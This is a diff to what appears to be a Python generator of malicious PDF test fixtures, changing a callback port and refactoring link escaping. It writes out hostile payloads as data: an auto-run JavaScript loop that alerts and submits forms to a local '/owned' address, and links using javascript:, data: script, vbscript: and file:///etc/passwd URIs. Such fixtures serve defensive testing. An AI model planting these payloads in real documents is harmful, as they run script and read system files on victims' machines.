@@ -200,11 +200,12 @@ def length_that_refers_to_itself() -> bytes:
 
 # ── acting and calling home ──────────────────────────────────────────────────────────────────────────────────────
 
-ADDRESS = "http://127.0.0.1:9/owned"
+PORT = 48_129
+ADDRESS = f"http://127.0.0.1:{PORT}/owned"
 
 
 def javascript() -> bytes:
-    script = "(while (true) { app.alert('x'); this.submitForm('http://127.0.0.1:9/') })"
+    script = "(while (true) { app.alert('x'); this.submitForm('http://127.0.0.1:48129/') })"
     return with_catalog(
         "/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 6 0 R]>>>>",
         f"<</S/JavaScript/JS {script}>>",
@@ -223,10 +224,8 @@ def remote_go_to() -> bytes:
 
 def links_of_bad_schemes() -> bytes:
     bad = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:x")
-    links = [
-        f"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI({address.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})>>>>"
-        for address in bad
-    ]
+    written = [address.replace("(", r"\(").replace(")", r"\)") for address in bad]
+    links = [f"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI({each})>>>>" for each in written]
     return with_catalog("", *links, page=f"/Annots[{' '.join(f'{6 + n} 0 R' for n in range(len(bad)))}]")
 
 
